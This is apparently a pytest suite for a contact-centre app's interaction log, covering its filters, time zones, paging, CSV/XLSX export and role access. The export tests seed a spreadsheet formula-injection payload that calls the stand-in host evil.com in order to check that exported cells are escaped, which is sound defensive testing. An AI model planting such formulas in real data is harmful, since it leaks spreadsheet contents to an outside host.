"""The manager's interaction log: filters, pages, and the CSV/XLSX export of what is shown."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from itertools import count
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from app_fixtures import log_in
from commhub.models import User
from commhub.web.keys import DATABASE
from commhub.web.ui import log, log_export

Client = TestClient[Any, Any]
HTML = {"Accept": "text/html"}
_ids = count(1)


async def _user_ids(client: Client, admin: dict[str, str]) -> dict[str, int]:
    listed = await (await client.get("/api/v1/users", headers=admin)).json()
    return {user["username"]: user["id"] for user in listed["items"]}


async def _contact(client: Client, headers: dict[str, str], name: str, phone: str) -> int:
    made = await client.post(
        "/api/v1/contacts", json={"name": name, "phones": [phone]}, headers=headers
    )
    assert made.status == 201, await made.text()
    return int((await made.json())["id"])


async def _interaction(client: Client, headers: dict[str, str], **fields: Any) -> int:
    body = {
        "channel": "call",
        "direction": "in",
        "status": "answered",
        "external_id": f"log-test-{next(_ids)}",
        "occurred_at": "2026-03-10T09:00:00Z",
        **fields,
    }
    made = await client.post("/api/v1/interactions", json=body, headers=headers)
    assert made.status == 201, await made.text()
    return int((await made.json())["id"])


async def _set_time_zone(client: Client, username: str, zone: str) -> None:
    async with client.app[DATABASE]() as session:
        await session.execute(update(User).where(User.username == username).values(time_zone=zone))
        await session.commit()


async def _shown(client: Client, query: str) -> list[int]:
    """The interaction ids the log lists for ``query``, in page order."""
    response = await client.get(f"/log?{query}")
    text = await response.text()
    assert response.status == 200, text
    return [int(i) for i in re.findall(r'<tr data-id="(\d+)"', text)]


async def test_filters_narrow_the_log(
    client: Client, operator: dict[str, str], manager: dict[str, str], admin: dict[str, str]
) -> None:
    users = await _user_ids(client, admin)
    anna = await _contact(client, operator, "Анна Петрова", "+79161234567")
    missed = await _interaction(
        client,
        operator,
        status="missed",
        queue="sales",
        from_address="+79161234567",
        operator_id=users["operator"],
        occurred_at="2026-03-10T08:00:00Z",
    )
    abandoned = await _interaction(
        client, operator, status="abandoned", queue="support", from_address="+79035550101"
    )
    answered = await _interaction(
        client,
        manager,
        operator_id=users["manager"],
        queue="sales",
        from_address="+79035550102",
        duration_s=247,
        occurred_at="2026-03-10T10:00:00Z",
    )
    sms = await _interaction(
        client,
        operator,
        channel="sms",
        direction="out",
        status="sent",
        to_address="+79161234567",
        summary="Ждём вас 100% завтра",
        operator_id=users["operator"],
    )
    email = await _interaction(
        client,
        operator,
        channel="email",
        direction="in",
        status="received",
        from_address="anna@example.ru",
        subject="Счёт на оплату №12",
        summary="Добрый день, пришлите счёт",
    )
    await log_in(client, "manager")

    assert await _shown(client, "") == [answered, email, sms, abandoned, missed]
    assert await _shown(client, "channel=sms") == [sms]
    assert await _shown(client, "channel=call&status=missed") == [abandoned, missed]
    assert await _shown(client, "status=abandoned") == [abandoned]
    assert await _shown(client, f"operator_id={users['operator']}") == [sms, missed]
    assert await _shown(client, "queue=sales") == [answered, missed]
    assert await _shown(client, "direction=out") == [sms]
    assert await _shown(client, f"contact_id={anna}") == [sms, missed]
    assert await _shown(client, "q=СЧЁТ") == [email]
    assert await _shown(client, "q=пришлите+СЧЁТ") == [email]
    assert await _shown(client, "q=%25") == [sms]
    assert await _shown(client, "q=_") == []
    assert await _shown(client, "q=ждём+ВАС") == [sms]

    page = await (await client.get("/log")).text()
    assert f'<a href="/contacts/{anna}">Анна Петрова</a>' in _row(page, missed)
    took_the_call = _row(page, answered)
    assert "8 (903) 555-01-02" in took_the_call  # no card: the number as people write it
    assert "<td>manager</td>" in took_the_call
    assert "4:07" in took_the_call
    assert "Счёт на оплату №12" in _row(page, email)


def _row(page: str, interaction_id: int) -> str:
    found = re.search(rf'<tr data-id="{interaction_id}">(.*?)</tr>', page, re.DOTALL)
    assert found is not None, interaction_id
    return found.group(1)


async def test_date_range_is_read_in_the_viewers_time_zone(
    client: Client, operator: dict[str, str]
) -> None:
    # Vladivostok is UTC+10: 13:59Z is 23:59 on the 10th there, 14:00Z already the 11th.
    late_on_tenth = await _interaction(client, operator, occurred_at="2026-03-10T13:59:00Z")
    early_on_eleventh = await _interaction(client, operator, occurred_at="2026-03-10T14:00:00Z")
    end_of_eleventh = await _interaction(client, operator, occurred_at="2026-03-11T13:59:59Z")
    twelfth = await _interaction(client, operator, occurred_at="2026-03-11T14:00:00Z")
    await _set_time_zone(client, "manager", "Asia/Vladivostok")
    await log_in(client, "manager")

    assert await _shown(client, "from=2026-03-10&to=2026-03-10") == [late_on_tenth]
    assert await _shown(client, "from=2026-03-11&to=2026-03-11") == [
        end_of_eleventh,
        early_on_eleventh,
    ]
    assert await _shown(client, "from=2026-03-12") == [twelfth]
    assert await _shown(client, "to=2026-03-10") == [late_on_tenth]


async def test_a_number_or_address_in_any_format_finds_its_interactions(
    client: Client, operator: dict[str, str]
) -> None:
    # Channels store the other side as E.164 or a normalised address, on a card or not.
    unknown_caller = await _interaction(client, operator, from_address="+74957778899")
    called_back = await _interaction(
        client, operator, direction="out", to_address="+74957778899", from_address="201"
    )
    await _interaction(client, operator, from_address="+79161234567")
    mail = await _interaction(
        client,
        operator,
        channel="email",
        status="received",
        from_address="olga@client.example",
        subject="Price list",
    )
    await log_in(client, "manager")

    assert await _shown(client, "address=8+(495)+777-88-99") == [called_back, unknown_caller]
    assert await _shown(client, "address=%2B7+495+777+88+99") == [called_back, unknown_caller]
    assert await _shown(client, "address=Olga%40Client.example") == [mail]
    export = await client.get("/log/export.csv?address=84957778899")
    assert len((await export.text()).splitlines()) == 1 + 2


async def test_bad_filters_are_a_message_on_the_page(client: Client) -> None:
    await log_in(client, "manager")
    for query, message in (
        ("from=10.03.2026", "is not a date"),
        ("channel=fax", "Unknown channel"),
        ("status=lost", "Unknown status"),
        ("operator_id=abc", "Unknown operator"),
        ("from=2026-03-12&to=2026-03-10", "ends before it starts"),
        ("cursor=not-a-cursor", "start again from the first page"),
        ("address=12ab", "is not a phone number"),
        ("address=ivan%40", "is not an e-mail address"),
    ):
        response = await client.get(f"/log?{query}")
        assert response.status == 422, query
        text = await response.text()
        assert message in text, query
        assert 'id="log-filters"' in text


async def test_pages_follow_each_other_and_the_export_holds_every_page(
    client: Client, operator: dict[str, str]
) -> None:
    made = [
        await _interaction(
            client,
            operator,
            channel="note",
            direction="internal",
            status="logged",
            occurred_at=f"2026-03-10T09:{minute:02d}:00Z",
            summary=f"Note {minute}",
        )
        for minute in range(55)
    ]
    await _interaction(client, operator, occurred_at="2026-03-10T12:00:00Z")  # filtered out
    await log_in(client, "manager")

    first = await (await client.get("/log?channel=note")).text()
    next_link = re.search(r'id="next-page" href="([^"]+)"', first)
    assert next_link is not None
    second = await (await client.get(next_link.group(1).replace("&amp;", "&"))).text()
    shown = [int(i) for i in re.findall(r'<tr data-id="(\d+)"', first + second)]
    assert shown == made[::-1]
    assert 'id="next-page"' not in second

    export = await client.get("/log/export.csv?channel=note")
    rows = list(csv.reader(io.StringIO((await export.read()).decode("utf-8-sig"))))
    assert len(rows) == 1 + 55
    assert [row[-1] for row in rows[1:3]] == ["Note 54", "Note 53"]


async def _seed_export(client: Client, operator: dict[str, str], admin: dict[str, str]) -> None:
    users = await _user_ids(client, admin)
    await _contact(client, operator, "Борис Ёлкин", "+79161234567")
    await _interaction(
        client,
        operator,
        from_address="+79161234567",
        operator_id=users["operator"],
        queue="sales",
        duration_s=95,
        occurred_at="2026-03-10T21:30:05Z",
        subject="Звонок\x07",
        summary='=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    )
    await _interaction(
        client,
        operator,
        channel="sms",
        status="received",
        from_address="+79035550101",
        summary="@SUM(A1:A3)",
        occurred_at="2026-03-10T08:00:00Z",
    )
    await _set_time_zone(client, "manager", "Europe/Moscow")


async def test_csv_export_is_excel_ready_and_safe(
    client: Client, operator: dict[str, str], admin: dict[str, str]
) -> None:
    await _seed_export(client, operator, admin)
    await log_in(client, "manager")
    page = await (await client.get("/log?queue=&from=2026-03-01")).text()
    link = re.search(r'id="export-csv" class="button secondary" href="([^"]+)"', page)
    assert link is not None and "from=2026-03-01" in link.group(1)

    response = await client.get(link.group(1).replace("&amp;", "&"))
    assert response.status == 200
    assert response.content_type == "text/csv"
    assert re.fullmatch(
        r'attachment; filename="interactions-\d{8}\.csv"', response.headers["Content-Disposition"]
    )
    raw = await response.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, call, sms = rows
    record = dict(zip(header, call, strict=True))
    assert record["Time"] == "2026-03-11 00:30:05"  # Moscow, UTC+3: the next day
    assert record["Contact"] == "Борис Ёлкин"
    assert record["Operator"] == "operator"
    assert record["Queue"] == "sales"
    assert record["Duration (s)"] == "95"
    assert record["Summary"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
    other = dict(zip(header, sms, strict=True))
    assert other["Summary"] == "'@SUM(A1:A3)"
    assert other["Contact"] == ""
    assert other["Number or address"] == "8 (903) 555-01-01"
    assert other["Time"] == "2026-03-10 11:00:00"


async def test_xlsx_export_reads_back_in_a_spreadsheet(
    client: Client, operator: dict[str, str], admin: dict[str, str]
) -> None:
    await _seed_export(client, operator, admin)
    await log_in(client, "manager")
    response = await client.get("/log/export.xlsx?channel=call")
    assert response.status == 200
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(await response.read()), read_only=True).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert len(rows) == 2
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Time"] == datetime(2026, 3, 11, 0, 30, 5)
    assert record["Contact"] == "Борис Ёлкин"
    assert record["Operator"] == "operator"
    assert record["Duration (s)"] == 95
    assert record["Subject"] == "Звонок"  # a control character XLSX cannot hold is dropped
    assert record["Summary"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'


async def test_an_export_cut_short_is_announced_on_the_page(
    client: Client, operator: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(log, "EXPORT_LIMIT", 2)
    monkeypatch.setattr(log, "PAGE_SIZE", 2)  # a cap is looked for only behind a full page
    monkeypatch.setattr(log_export, "EXPORT_LIMIT", 2)
    for minute in range(3):
        await _interaction(client, operator, occurred_at=f"2026-03-10T09:0{minute}:00Z")
    await log_in(client, "manager")
    assert 'id="export-capped"' not in await (await client.get("/log?to=2026-03-09")).text()
    assert 'id="export-capped"' in await (await client.get("/log")).text()
    export = await client.get("/log/export.csv")
    assert len((await export.text()).splitlines()) == 1 + 2


async def test_export_with_bad_filters_goes_back_to_the_log(client: Client) -> None:
    await log_in(client, "manager")
    response = await client.get("/log/export.csv?from=yesterday", allow_redirects=False)
    assert response.status == 303
    assert response.headers["Location"] == "/log?from=yesterday"


async def test_marketer_reads_the_log_but_may_not_export_it(
    client: Client, operator: dict[str, str]
) -> None:
    await _interaction(client, operator)
    await log_in(client, "marketer")
    page = await client.get("/log")
    assert page.status == 200
    text = await page.text()
    assert 'id="log-table"' in text
    assert 'id="export-csv"' not in text and 'id="export-xlsx"' not in text
    for path in ("/log/export.csv", "/log/export.xlsx"):
        assert (await client.get(path, headers=HTML)).status == 403


async def test_operator_is_refused_the_log_with_a_page(client: Client) -> None:
    await log_in(client, "operator")
    response = await client.get("/log", headers=HTML)
    assert response.status == 403
    assert response.content_type == "text/html"


async def test_api_filters_by_queue_and_text(
    client: Client, operator: dict[str, str], manager: dict[str, str]
) -> None:
    wanted = await _interaction(client, operator, queue="sales", summary="Клиент просит СКИДКУ")
    await _interaction(client, operator, queue="support", summary="Клиент просит скидку")
    await _interaction(client, operator, queue="sales", summary="Перезвонить")
    listed = await client.get(
        "/api/v1/interactions", params={"queue": "sales", "text": "скидку"}, headers=manager
    )
    assert listed.status == 200
    assert [item["id"] for item in (await listed.json())["items"]] == [wanted]
